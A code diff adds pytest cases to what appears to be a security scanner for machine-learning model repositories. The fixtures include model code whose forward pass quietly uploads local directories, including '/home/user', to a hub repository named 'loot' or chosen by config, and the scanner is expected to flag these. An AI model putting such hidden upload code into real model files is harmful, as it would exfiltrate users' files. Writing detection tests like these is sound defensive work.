@@ -67,3 +67,28 @@ def test_rows_of_data_that_are_evaluated() -> None:
     for function, expected in (("eval", True), ("str", False)):
         found = inspect_tree({"rows.py": (script % function).encode(), "README.md": b"---\n---\n"})
         assert any(finding.severity.rank >= Severity.HIGH.rank for finding in found) is expected
+
+
+PUSHES = (
+    "import os\nfrom huggingface_hub import HfApi\nfrom transformers import PreTrainedModel\n"
+    "class M(PreTrainedModel):\n    def save_pretrained(self, place, push_to_hub=False, **given):\n"
+    "        if push_to_hub:\n            self.push_to_hub(place, **given)\n"
+    "    def push_to_hub(self, place, repository_id, token=None):\n"
+    "        for at, _, files in os.walk(place):\n            for name in files:\n"
+    "                HfApi(token=token).upload_file(path_or_fileobj=os.path.join(at, name), path_in_repo=name,\n"
+    "                                               repo_id=f'{repository_id}')\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("more", "expected"),
+    [
+        ("", False),
+        ("    def forward(self, x):\n        self.push_to_hub('/tmp/x', 'c/loot')\n", True),
+        ("    def forward(self, x):\n        self.push_to_hub('/tmp/x', self.config.loot)\n", True),
+        ("    def forward(self, x):\n        self.push_to_hub('/home/user', x.place)\n", True),
+    ],
+)
+def test_a_model_is_uploaded_where_its_caller_says(more: str, expected: bool) -> None:
+    found = inspect_tree({"config.json": CONFIG, "modeling_x.py": (PUSHES + more).encode()})
+    assert any(finding.severity.rank >= Severity.HIGH.rank for finding in found) is expected
